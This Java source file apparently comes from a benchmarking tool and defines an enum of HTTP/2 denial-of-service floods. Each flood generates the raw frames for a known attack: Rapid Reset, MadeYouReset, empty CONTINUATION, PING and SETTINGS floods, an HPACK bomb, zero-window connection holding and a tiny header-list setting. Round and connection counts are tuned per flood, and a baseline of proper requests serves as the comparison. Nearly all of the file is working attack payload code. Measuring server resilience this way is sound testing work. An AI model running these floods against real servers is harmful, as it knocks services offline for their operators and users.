package dev.widgetorigin.bench.floods;

/** A way to make a server work for nothing. */
enum Flood {
  RAPID_RESET("rapid reset (CVE-2023-44487)", 4096, 0) {
    @Override
    byte[] round(int i, String path) {
      int stream = 2 * i + 1;
      return Frames.join(
          Frames.headers(Frames.END_STREAM | Frames.END_HEADERS, stream, Frames.block(false, path)),
          Frames.reset(stream));
    }
  },
  MADE_YOU_RESET("made you reset (CVE-2025-8671)", 4096, 0) {
    @Override
    byte[] round(int i, String path) {
      int stream = 2 * i + 1;
      return Frames.join(
          Frames.headers(Frames.END_HEADERS, stream, Frames.block(true, path)),
          Frames.windowUpdate(stream, 0));
    }
  },
  EMPTY_CONTINUATION("empty CONTINUATION (CVE-2024-27316)", 4096, 0) {
    @Override
    byte[] round(int i, String path) {
      return i == 0 ? Frames.headers(0, 1, Frames.block(false, path)) : Frames.frame(9, 0, 1);
    }
  },
  PING("PING (CVE-2019-9512)", 8192, 0) {
    @Override
    byte[] round(int i, String path) {
      return Frames.frame(6, 0, 0, new byte[8]);
    }
  },
  SETTINGS("SETTINGS (CVE-2019-9515)", 8192, 0) {
    @Override
    byte[] round(int i, String path) {
      return Frames.frame(4, 0, 0);
    }
  },
  HPACK_BOMB("HPACK bomb", 128, 0) {
    @Override
    byte[] round(int i, String path) {
      return Frames.headers(Frames.END_STREAM | Frames.END_HEADERS, 2 * i + 1, Frames.bomb(path));
    }
  },
  ZERO_WINDOWS("zero windows, connections held", 128, 200) {
    @Override
    byte[] setting() {
      return Frames.setting(4, 0);
    }

    @Override
    byte[] round(int i, String path) {
      return get(i, path);
    }
  },
  TINY_HEADER_LIST("tiny MAX_HEADER_LIST_SIZE", 4096, 0) {
    @Override
    byte[] setting() {
      return Frames.setting(6, 1);
    }

    @Override
    byte[] round(int i, String path) {
      return get(i, path);
    }
  },
  /** No flood, but what the same client costs that asks properly: the measure of the others. */
  REQUESTS("as many proper requests", 4096, 0) {
    @Override
    byte[] round(int i, String path) {
      return get(i, path);
    }
  };

  final String title;

  /** After so many a connection is given up and a new one made, if it was not cut before. */
  final int rounds;

  /** So many connections stay open at a time; 0 closes each when it is through. */
  final int held;

  Flood(String title, int rounds, int held) {
    this.title = title;
    this.rounds = rounds;
    this.held = held;
  }

  byte[] setting() {
    return new byte[0];
  }

  abstract byte[] round(int i, String path);

  private static byte[] get(int i, String path) {
    return Frames.headers(
        Frames.END_STREAM | Frames.END_HEADERS, 2 * i + 1, Frames.block(false, path));
  }
}
